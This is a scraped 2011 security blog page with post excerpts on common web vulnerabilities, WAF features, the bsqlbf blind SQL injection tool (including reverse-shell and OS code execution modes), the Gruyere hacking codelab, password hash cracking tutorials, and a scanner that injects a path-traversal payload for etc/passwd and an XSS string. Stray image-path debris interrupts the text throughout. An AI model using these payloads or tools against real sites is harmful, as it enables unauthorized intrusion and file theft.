    The Most common Web Application Vulnerabilities:

    • SQL Injection(SQLi)
    • Cross-Site Scripting (XSS)
    • Broken Authentication and Session Management
    • Insecure Direct Object References
    • Cross-Site Request Forgery (CSRF)
    • Security Misconfiguration
    • Insecure Cryptographic Storage
    • Failure to Restrict URL Access• Insufficient Transport Layer Protection
    • Unvalidated Redirects and Forwards

    The Wep Application Firewall(WAF) must meat the following features:
    • Protection Against Top Vulnerability(XSS,SQLi,..etc)
    • Very Few False Positives (i.e., should NEVER disallow an authorized request)
    • Strength of Default (Out of the Box) Defenses
    • Power and Ease of Learn Mode
    • Types of Vulnerabilities it can prevent.
    • Detects disclosure and unauthorized content in outbound reply messages, such as credit-card and Social Security numbers.
    • Both Positive and Negative Security model support.
    • Simplified and Intuitive User Interface.
    • Cluster mode support.• High Performance (milliseconds latency).
    • Complete Alerting, Forensics, Reporting capabilities.
    • Web Services\XML support.
    • Brute Force protection.
    • Ability to Active (block and log), Passive (log only) and bypass the web trafic.
    • Ability to keep individual users constrained to exactly what they have seen in the current session
    • Ability to be configured to prevent ANY specific problem (i.e., Emergency Patches)
    • Form Factor: Software vs. Hardware (Hardware generally preferred)
    Top 10 Open Source Web Application Firefwall(WAF):

    1. ModSecurity (Trustwave SpiderLabs)
    2. AQTRONIX WebKnight
    3. ESAPI WAF
    4. WebCastellum
    5. BinarySec
    6. Guardian@JUMPERZ.NET
    7. OpenWAF
    8. Ironbee
    9. Profense
    10. Smoothwall
    Continue   Reading>>Tuesday, October 11, 2011

    Automated Blind SQL Injection Attacking Tools~bsqlbf Brute forcer

    What is Blind SQL Injection:
    Some Websites are vulnerable to SQL Injection but the results of injection are not visible to the attacker.  In this situation, Blind SQL Injection is used. The page with the vulnerability may not be one that displays data but will display differently depending on the results of a logical statement injected into the legitimate SQL statement called for that page. This type of attack can become time-intensive because a new statement must be crafted for each bit recovered.

    There are plenty of automated Blind Sql Injection tool available. Here i am introducing one of Tool named as bsqlbf(expanded as Blind Sql Injection Brute Forcer).

    This tool is written in Perl and allows extraction of data from Blind SQL Injections. It accepts custom SQL queries as a command line parameter and it works for both integer and string based injections
    Supported Database:
    • MS-SQL
    • MySQL
    • PostgreSQL
    • Oracle

    The tool supports 8 attack modes(-type switch):-
    Type 0: Blind SQL Injection based on true and false conditions returned by back-end server

    Type 1: Blind SQL Injection based on true and error(e.g syntax error) returned by back-end server.

    Type 2: Blind SQL Injection in "order by" and "group by".

    Type 3: extracting data with SYS privileges (ORACLE dbms_export_extension exploit)

    Type 4: is O.S code execution (ORACLE dbms_export_extension exploit)

    Type 5: is reading files (ORACLE dbms_export_extension exploit, based on java)

    Type 6: is O.S code execution DBMS_REPCAT_RPC.VALIDATE_REMOTE_RC exploit

    Type 7: is O.S code execution SYS.KUPP$PROC.CREATE_MASTER_PROCESS(), DBA Privs

    -cmd=revshell Type 7 supportsmeterpreter payload execution, run generator.exe first

    Type 8: is O.S code execution DBMS_JAVA_TEST.FUNCALL, with JAVA IO Permissions

    -cmd=revshell Type 8 supports meterpreter payload execution, run generator.exe first

    For Type 4(O.S code execution) the following methods are supported:

    -stype: How you want to execute command:

    SType 0 (default) is based on java..will NOT work against XE.

    SType 1 is against oracle 9 with plsql_native_make_utility.

    SType 2 is against oracle 10 with dbms_scheduler.

    This Article is for Education purpose only.  The above mentioned software is developed for Penetration testers to test their own Web application Vulnerability.
    Continue   Reading>>

    Sunday, October 9, 2011

    Learn Web Application Exploits and Defenses for free~Penetration TestingAre you willing to Learn Web Application Exploitation and Defense against that? Here is the chance for you.   Google Labs provides a Lab to learn Web Application for free of cost.

    Penetration Testing :
    • Learn how hackers find security vulnerabilities!
    • Learn how hackers exploit web applications!
    • Learn how to stop them!
    This code lab shows how web application vulnerabilities can be exploited and how to defend against these attacks. The best way to learn things is by doing, so you'll get a chance to do some real penetration testing, actually exploiting a real application. Specifically, you'll learn the following:
    • How an application can be attacked using common web security vulnerabilities, like cross-site scripting vulnerabilities (XSS) and cross-site request forgery (XSRF).
    • How to find, fix, and avoid these common vulnerabilities and other bugs that have a security impact, such as denial-of-service, information disclosure, or remote code execution.
    To get the most out of this lab, you should have some familiarity with how a web application works (e.g., general knowledge of HTML, templates, cookies, AJAX, etc.).

    This codelab is built around Gruyere /ɡruːˈjɛər/ - a small, cheesy web application that allows its users to publish snippets of text and store assorted files. "Unfortunately," Gruyere hasmultiple security bugs ranging from cross-site scripting and cross-site request forgery, to information disclosure, denial of service, and remote code execution. The goal of this codelab is to guide you through discovering some of these bugs and learning ways to fix them both in Gruyere and in general.

    The codelab is organized by types of vulnerabilities. In each section, you'll find a brief description of a vulnerability and a task to find an instance of that vulnerability in Gruyere. Your job is to play the role of a malicious hacker and find and exploit the security bugs. In thiscodelab, you'll use both black-box hacking and white-box hacking. In black box hacking, youtry to find security bugs by experimenting with the application and manipulating input fields and URL parameters, trying to cause application errors, and looking at the HTTP requests and responses to guess server behavior. You do not have access to the source code, although understanding how to view source and being able to view http headers (as you can in Chrome or LiveHTTPHeaders for Firefox) is valuable. Using a web proxy like Burp or WebScarab may be helpful in creating or modifying requests. In white-box hacking, you have access to the source code and can use automated or manual analysis to identify bugs. You can treat Gruyereas if it's open source: you can read through the source code to try to find bugs. Gruyere is written in Python, so some familiarity with Python can be helpful. However, the security vulnerabilities covered are not Python-specific and you can do most of the lab without even looking at the code. You can run a localinstance of Gruyere to assist in your hacking: for example, you can create an administrator account on your local instance to learn how administrative features work and then apply that knowledge to the instance you want to hack. Security researchers use both hacking techniques, often in combination, in real life.

    They'll tag each challenge to indicate which techniques are required to solve them:

    Challenges that can be solved just by using black box techniques.

    Challenges that require that you look at the Gruyere source code.

    Challenges that require some specific knowledge of Gruyere that will be given in the first hint.

    Accessing or attacking a computer system without authorization is illegal in many jurisdictions. While doing this codelab, you are specifically granted authorization to attack the Gruyere application as directed. You may not attack Gruyere in ways other than described in this codelab, nor may you attack App Engine directly or any other Google service. You should use what you learn from the codelab tomake your own applications more secure. You should not use it to attack any applications other than your own, and only do that with permission from the appropriate authorities (e.g., your company's security team).

    Continue   Reading>>

    Thursday, October 6, 2011

    Hash CodeCracker v1.2 Video Tutorials

    Running Application:

    In Linux:
    Terminal: The same procedure is followed for Linux version.  Just open the Terminal instead command Prompt.

    Using Application for Cracking password:
    How to Crack the Password using Online Cracker Hash Code Cracker v1.2?Continue   Reading>>

    How to Crack the Password using Online Cracker Hash Code Cracker v1.2?

    Continue   Reading>>

    How to Run Hash Code Cracker Jar using Command Prompt~Password Cracking

    Continue   Reading>>

    How to start Hash Code Cracker Jar with double Click~Password Cracking

    Continue   Reading>>

    Tuesday, August 30, 2011

    Xcode SQLInjection / LFI / XSS & Webshell Vulnerability Scanner

    XCODE Exploit: Vulnerable and Webshell Scanner.Once downloaded, extract all the files and run XCodeXploitScanner.exe, Dork Click It and a tool will collect links from Dork you enter and displays the list is. after displaying List, you will be able to conduct SQL injection vulnerability scanning / Local File Inclusion / Cross Site Scripting on the web that is in the list.

    This tool will send the injection parameters to the web as' - * /../../../../../../../../../../../../. . / .. / etc / passwd% 00 "> alert (" XXS Xcode Exploit Scanner Detected ").

    If the Web has a bug then the status will appear:

    SQLi Vulnerablitiy:
    LFI Vulnerablity: . / .. / etc / passwd% 00
    XSS Vulnerablity: "> alert (" XXS XcodeExploit Scanner Detected ")

    At the status list is detected, you can click Open Vuln links with a web browser to display on your browser

    This tool also adds webshell hunter, where you can search the web shell C99, R57, C100, ITsecteam_shell, b374k, which had been uploaded by the hackers.

    Continue   Reading>>
    Older Post Home

    © Break The Security. Copyright 2008 All Rights Reserved Revolution Two Church theme by Brian Gardner Converted intoBlogger Template by Bloganol dot com